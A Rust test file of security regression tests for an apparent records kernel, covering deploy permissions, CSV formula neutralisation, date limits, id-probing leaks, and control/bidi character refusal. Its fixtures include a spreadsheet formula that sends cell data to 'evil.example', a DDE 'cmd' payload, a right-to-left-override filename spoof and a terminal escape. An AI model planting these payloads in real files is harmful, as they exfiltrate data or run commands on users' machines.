//! Security findings, each with the test that failed before its fix: deploy needs
//! `metadata.deploy`; CSV export neutralises formulas (and import takes the `'` off again);
//! date-times stay within years 0001–9999 in UTC; a chosen id does not reveal a hidden record;
//! row errors name the right line in CRLF files; a duplicated header is refused; text fields
//! refuse control characters and bidi overrides.

use crate::common;

use common::*;
use countersign_kernel::records::csvio::export_csv;
use countersign_kernel::records::import::{import_csv, ImportMode, ImportOptions};
use countersign_kernel::{Code, DeployOptions, QuerySpec, Workspace, WorkspaceDefinition};
use serde_json::{json, Value};

// ---------------------------------------------------------------------------------------
// 1. Deploy needs a user of the current generation with metadata.deploy.

/// The demo definition, but sales reps see every opportunity.
fn reps_view_all() -> WorkspaceDefinition {
    let mut def = countersign_kernel::records::demo::demo_definition();
    def.permission_sets.iter_mut().find(|s| s.key == "sales_rep").unwrap().view_all = true;
    def
}

fn deployed_by(ws: &Workspace) -> Vec<(i64, String)> {
    let conn = ws.raw_connection();
    let mut stmt =
        conn.prepare("SELECT generation, deployed_by FROM metadata_generation ORDER BY generation").unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?))).unwrap().collect::<Result<_, _>>().unwrap()
}

#[test]
fn deploying_to_an_initialized_workspace_needs_metadata_deploy() {
    let mut f = demo();
    let def = reps_view_all();
    for (user, code) in [
        (Some("dan"), Code::Permission), // a viewer
        (Some("ben"), Code::Permission), // the sales rep who would gain viewAll
        (Some("nobody"), Code::UnknownUser),
        (Some("system"), Code::UnknownUser), // the kernel's own actor is not a user
        (None, Code::UnknownUser),
    ] {
        let opts = DeployOptions { force: true, user: user.map(String::from) };
        let e = f.ws.deploy(&def, &opts).unwrap_err();
        assert_eq!(e.code, code, "{user:?}: {e}");
        assert_eq!(f.ws.generation(), 1, "{user:?} deployed");
    }
    // Nothing changed: ben still sees only his own opportunities.
    let all = |ws: &Workspace, user: &str| {
        ws.session(user)
            .unwrap()
            .query(&QuerySpec::from_json(&json!({"object": "opportunity", "limit": 10000})).unwrap())
            .unwrap()
            .records
            .len()
    };
    assert!(all(&f.ws, "ben") < all(&f.ws, "ava"));
    // ava (admin, metadata.deploy) may; the generation records her.
    f.ws.deploy(&def, &DeployOptions::by("ava")).unwrap();
    assert_eq!(f.ws.generation(), 2);
    assert_eq!(all(&f.ws, "ben"), all(&f.ws, "ava"));
    assert_eq!(deployed_by(&f.ws), vec![(1, "system".to_string()), (2, "ava".to_string())]);
}

#[test]
fn the_permission_is_checked_against_the_current_generation_not_the_new_one() {
    let mut f = demo();
    // dan grants himself metadata.deploy in the definition he deploys: refused.
    let mut def = countersign_kernel::records::demo::demo_definition();
    def.permission_sets.iter_mut().find(|s| s.key == "viewer").unwrap().system.push("metadata.deploy".into());
    assert_eq!(f.ws.deploy(&def, &DeployOptions::by("dan")).unwrap_err().code, Code::Permission);
    // Granted by ava, it works for dan from then on.
    f.ws.deploy(&def, &DeployOptions::by("ava")).unwrap();
    f.ws.deploy(&reps_view_all(), &DeployOptions::by("dan")).unwrap();
    assert_eq!(f.ws.generation(), 3);
}

#[test]
fn the_bootstrap_deploy_into_an_empty_workspace_needs_no_user() {
    let mut f = empty();
    f.ws.deploy(&countersign_kernel::records::demo::demo_definition(), &DeployOptions::default()).unwrap();
    assert_eq!(f.ws.generation(), 1);
}

#[test]
fn the_demo_admin_has_metadata_deploy_and_the_schema_knows_it() {
    let def = countersign_kernel::records::demo::demo_definition();
    let admin = def.permission_sets.iter().find(|s| s.key == "admin").unwrap();
    assert!(admin.system.iter().any(|p| p == countersign_kernel::DEPLOY_PERMISSION));
    let mut doc: Value = serde_json::from_str(countersign_kernel::records::demo::DEMO_DEFINITION).unwrap();
    doc["permissionSets"][0]["system"] = json!(["metadata.deploy", "metadata.everything"]);
    let e = WorkspaceDefinition::from_json(&doc).unwrap_err();
    assert_eq!(e.code, Code::InvalidDefinition);
    let paths: Vec<String> = e.details.iter().map(|d| d.path.clone()).collect();
    assert_eq!(paths, vec!["/permissionSets/0/system/1".to_string()]);
}

// ---------------------------------------------------------------------------------------
// 2. CSV export neutralises formulas; numbers stay numbers; import round-trips.

fn items_definition() -> Value {
    json!({
        "format": "countersign.workspace/v1",
        "name": "Items",
        "objects": [{"key": "item", "label": "Item", "pluralLabel": "Items", "sharing": "public_read_write",
            "nameField": "name",
            "fields": [
                {"key": "name", "label": "Name", "type": "text", "required": true, "maxLength": 200},
                {"key": "note", "label": "Note", "type": "long_text"},
                {"key": "phone", "label": "Phone", "type": "phone"},
                {"key": "amount", "label": "Amount", "type": "currency", "precision": 10, "scale": 2},
                {"key": "qty", "label": "Quantity", "type": "number", "precision": 6, "scale": 0}
            ]}],
        "permissionSets": [{"key": "all", "label": "All", "objects": {"item": ["read", "create", "edit", "delete"]}}],
        "users": [{"key": "ann", "name": "Ann", "permissionSets": ["all"]}]
    })
}

const FORMULAS: [(&str, &str, &str); 5] = [
    ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\tX", "+44 20 7946 0958"),
    ("+1", "\r\n=1+1", "-1-2-3"),
    ("@SUM(A1:A9)", "-cmd|' /C calc'!A0", "+1 555 0100"),
    ("'=already quoted", "'", "555 0100"),
    ("plain", "a=1", ""),
];

fn items_spec() -> QuerySpec {
    QuerySpec::from_json(&json!({"object": "item", "fields": ["name", "note", "phone", "amount", "qty"],
        "sort": [{"field": "id"}]}))
    .unwrap()
}

#[test]
fn export_neutralises_formula_cells_but_not_numbers() {
    let f = with_definition(items_definition());
    let ann = f.ws.session("ann").unwrap();
    for (i, (name, note, phone)) in FORMULAS.iter().enumerate() {
        let amount = if i == 0 { json!("-1234.50") } else { json!(i) };
        ann.create(
            "item",
            map(json!({"name": name, "note": note, "phone": phone, "amount": amount, "qty": -3})),
        )
        .unwrap();
    }
    let mut out = Vec::new();
    export_csv(&ann, &items_spec(), &mut out).unwrap();
    // Read it as a spreadsheet would.
    let mut r = csv::Reader::from_reader(out.as_slice());
    assert_eq!(r.headers().unwrap(), vec!["id", "name", "note", "phone", "amount", "qty"]);
    let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
    let cell = |row: usize, col: usize| rows[row].get(col).unwrap().to_string();
    for (row, (name, note, phone)) in FORMULAS.iter().enumerate() {
        for (col, value) in [(1, name), (2, note), (3, phone)] {
            let starts_like_formula =
                value.trim_start_matches('\'').starts_with(['=', '+', '-', '@', '\t', '\r']);
            let want = if starts_like_formula { format!("'{value}") } else { value.to_string() };
            assert_eq!(cell(row, col), want, "row {row} column {col}");
            assert!(!cell(row, col).starts_with(['=', '+', '-', '@', '\t', '\r']));
        }
        // Typed numbers are written as numbers, negative ones too.
        assert_eq!(cell(row, 5), "-3");
    }
    assert_eq!(cell(0, 4), "-1234.50");
    assert_eq!(cell(0, 1), "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
    assert_eq!(cell(0, 2), "'\tX");
    assert_eq!(cell(1, 1), "'+1");
    assert_eq!(cell(2, 1), "'@SUM(A1:A9)");

    // Import takes the added `'` off again: the same values in a second workspace.
    let g = with_definition(items_definition());
    let ann2 = g.ws.session("ann").unwrap();
    let report = import_csv(&ann2, "item", out.as_slice(), &ImportOptions::default()).unwrap();
    assert!(report.committed, "{:?}", report.errors);
    let strip = |r: countersign_kernel::QueryResult| -> Vec<Value> {
        r.records.into_iter().map(Value::Object).collect()
    };
    assert_eq!(strip(ann2.query(&items_spec()).unwrap()), strip(ann.query(&items_spec()).unwrap()));
}

// ---------------------------------------------------------------------------------------
// 3. Date-times stay within years 0001–9999 in UTC.

#[test]
fn datetimes_whose_utc_form_leaves_years_0001_to_9999_are_refused() {
    let f = demo();
    let ava = f.ws.session("ava").unwrap();
    for extreme in ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59"] {
        let e = ava
            .create("note", map(json!({"account": "acc_0001", "title": "T", "written_at": extreme})))
            .unwrap_err();
        assert_eq!((e.code, e.field.as_deref()), (Code::InvalidValue, Some("written_at")), "{extreme}");
        assert!(e.message.contains("outside the years 0001–9999"), "{}", e.message);
        // The same through import, and as a filter value.
        let csv = format!("account,title,written_at\nacc_0001,T,{extreme}\n");
        let r = import_csv(&ava, "note", csv.as_bytes(), &ImportOptions::default()).unwrap();
        assert_eq!((r.committed, r.errors[0].code), (false, Code::InvalidValue));
        let spec =
            json!({"object": "note", "filters": {"field": "written_at", "op": "lt", "value": extreme}});
        assert!(QuerySpec::from_json(&spec).and_then(|s| ava.query(&s)).is_err(), "{extreme}");
    }
    for (edge, stored) in [
        ("9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"),
        ("0001-01-01T23:59:00+23:59", "0001-01-01T00:00:00Z"),
        ("9999-12-31T00:00:00-23:59", "9999-12-31T23:59:00Z"),
    ] {
        let id = ava
            .create("note", map(json!({"account": "acc_0001", "title": "T", "written_at": edge})))
            .unwrap()
            .id;
        assert_eq!(ava.get("note", &id).unwrap().fields["written_at"], json!(stored));
    }
}

// ---------------------------------------------------------------------------------------
// 4. A chosen id says nothing about records the user cannot read.

#[test]
fn an_import_id_of_a_hidden_record_gets_the_same_error_as_a_made_up_one() {
    let f = demo();
    let ben = f.ws.session("ben").unwrap();
    let hidden = demo_rows("opportunity").into_iter().find(|r| r["owner"] == "eve").unwrap()["id"].clone();
    assert_eq!(ben.get("opportunity", &hidden).unwrap_err().code, Code::NotFound);
    let made_up = "opp_9999";
    let csv = format!(
        "id,name,account,stage,close_date\n\
         {hidden},Probe,acc_0001,qualification,2026-12-01\n\
         {made_up},Probe,acc_0001,qualification,2026-12-01\n"
    );
    let opts = ImportOptions { mode: ImportMode::SkipInvalid, ..Default::default() };
    let r = import_csv(&ben, "opportunity", csv.as_bytes(), &opts).unwrap();
    assert_eq!((r.imported, r.failed), (0, 2), "{:?}", r.errors);
    let (a, b) = (&r.errors[0], &r.errors[1]);
    assert_eq!((a.code, &a.field), (b.code, &b.field));
    assert_eq!(a.message.replace(&hidden, "ID"), b.message.replace(made_up, "ID"));
    assert!(!a.message.contains("exists"), "{}", a.message);
    // The same through a save.
    let save = |id: &str| {
        ben.save(
            countersign_kernel::SaveRequest::Create {
                object: "opportunity".into(),
                values: map(json!({"name": "Probe", "account": "acc_0001", "stage": "qualification", "close_date": "2026-12-01"})),
                id: Some(id.into()),
                owner: None,
            },
            &Default::default(),
        )
        .unwrap_err()
    };
    let (a, b) = (save(&hidden), save(made_up));
    assert_eq!((a.code, a.message.replace(&hidden, "ID")), (b.code, b.message.replace(made_up, "ID")));
    // Someone who reads every record may keep ids: ava (viewAll), and ben for accounts (public read).
    let ava = f.ws.session("ava").unwrap();
    let r = import_csv(&ava, "opportunity", csv.as_bytes(), &opts).unwrap();
    assert_eq!((r.imported, r.errors[0].code), (1, Code::Duplicate));
    let r = import_csv(&ben, "account", "id,name\nacc_9999,Chosen Id Co\n".as_bytes(), &opts).unwrap();
    assert_eq!(r.imported, 1, "{:?}", r.errors);
}

// ---------------------------------------------------------------------------------------
// 5. Row errors name the right line, CRLF or not; a duplicated header is refused.

fn error_lines(ava: &countersign_kernel::Session<'_>, csv: &str) -> Vec<u64> {
    let r = import_csv(ava, "note", csv.as_bytes(), &ImportOptions::default()).unwrap();
    assert!(!r.committed);
    r.errors.iter().map(|e| e.line).collect()
}

#[test]
fn row_errors_name_the_same_line_in_lf_and_crlf_files() {
    let f = demo();
    let ava = f.ws.session("ava").unwrap();
    let lf = "account,title,body\nacc_0001,Call,fine\nacc_0001,,Missing title\nacc_0001,Again,fine\n";
    assert_eq!(error_lines(&ava, lf), vec![3]);
    assert_eq!(error_lines(&ava, &lf.replace('\n', "\r\n")), vec![3]);
    // A quoted cell over two lines and a blank line before the bad row: line 5.
    let lf = "account,title,body\nacc_0001,Call,\"two\nlines\"\n\nacc_0001,,Missing title\nacc_0001,,Again\n";
    assert_eq!(error_lines(&ava, lf), vec![5, 6]);
    assert_eq!(error_lines(&ava, &lf.replace('\n', "\r\n")), vec![5, 6]);
    // A row with a wrong number of cells is named at its line too.
    let ragged = "account,title,body\r\nacc_0001,Call,fine\r\nacc_0001,Call\r\n";
    assert_eq!(error_lines(&ava, ragged), vec![3]);
}

#[test]
fn a_duplicated_header_is_refused_naming_it() {
    let f = demo();
    let ava = f.ws.session("ava").unwrap();
    for (csv, names) in [
        ("account,title,body,title\nacc_0001,First,x,Second\n", vec!["`title` appears twice"]),
        ("account,title,Title\nacc_0001,First,Second\n", vec!["`title`", "`Title`"]),
    ] {
        let e = import_csv(&ava, "note", csv.as_bytes(), &ImportOptions::default()).unwrap_err();
        assert_eq!(e.code, Code::InvalidCsv);
        for n in names {
            assert!(e.message.contains(n), "{}", e.message);
        }
    }
}

// ---------------------------------------------------------------------------------------
// 6. Text fields refuse control characters and bidi overrides.

const REFUSED: [char; 10] = [
    '\u{1b}', '\u{1}', '\u{7f}', '\u{85}', '\u{2028}', '\u{2029}', '\u{202A}', '\u{202E}', '\u{2066}',
    '\u{2069}',
];

#[test]
fn single_line_text_refuses_control_and_bidi_characters_through_the_save_path() {
    let f = demo();
    let ava = f.ws.session("ava").unwrap();
    for c in REFUSED.iter().chain(['\t', '\n', '\r'].iter()) {
        let name = format!("Acme{c}Corp");
        let e = ava.create("account", map(json!({"name": name}))).unwrap_err();
        assert_eq!((e.code, e.field.as_deref()), (Code::InvalidValue, Some("name")), "{c:?}");
        let code = format!("U+{:04X}", *c as u32);
        assert!(e.message.contains(&code), "{c:?}: {}", e.message);
        // E-mail addresses and URLs are single lines too.
        let e = ava
            .create("contact", map(json!({"last_name": "X", "email": format!("a{c}b@example.com")})))
            .unwrap_err();
        assert_eq!(e.code, Code::InvalidValue, "{c:?}");
    }
    // Right-to-left text with its marks is text.
    ava.create("account", map(json!({"name": "\u{200F}שלום Ltd"}))).unwrap();
}

#[test]
fn long_text_keeps_line_breaks_and_tabs_but_not_other_controls() {
    let f = demo();
    let ava = f.ws.session("ava").unwrap();
    let ok = "First line\n\tindented\r\nthird line";
    let id = ava.create("account", map(json!({"name": "Multi", "description": ok}))).unwrap().id;
    assert_eq!(ava.get("account", &id).unwrap().fields["description"], json!(ok));
    for c in REFUSED.iter().chain(['\r'].iter()) {
        let e = ava
            .create("account", map(json!({"name": "Multi", "description": format!("a{c}b")})))
            .unwrap_err();
        assert_eq!((e.code, e.field.as_deref()), (Code::InvalidValue, Some("description")), "{c:?}");
        assert!(e.message.contains(&format!("U+{:04X}", *c as u32)), "{}", e.message);
    }
}

#[test]
fn import_refuses_control_and_bidi_characters_per_row() {
    let f = demo();
    let ava = f.ws.session("ava").unwrap();
    let csv = "account,title,body\n\
               acc_0001,Invoice \u{202E}fdp.exe,x\n\
               acc_0001,Esc \u{1b}[2J,x\n\
               acc_0001,Fine,\"body \u{2066}isolate\u{2069}\"\n\
               acc_0001,Fine,\"two\nlines\"\n";
    let r = import_csv(&ava, "note", csv.as_bytes(), &ImportOptions::default()).unwrap();
    let errs: Vec<(u64, Code, Option<&str>)> =
        r.errors.iter().map(|e| (e.line, e.code, e.field.as_deref())).collect();
    assert_eq!(
        errs,
        vec![
            (2, Code::InvalidValue, Some("title")),
            (3, Code::InvalidValue, Some("title")),
            (4, Code::InvalidValue, Some("body")),
        ]
    );
    assert!(r.errors[0].message.contains("U+202E"), "{}", r.errors[0].message);
    assert!(r.errors[1].message.contains("U+001B"), "{}", r.errors[1].message);
    assert!(r.errors[2].message.contains("U+2066"), "{}", r.errors[2].message);
}
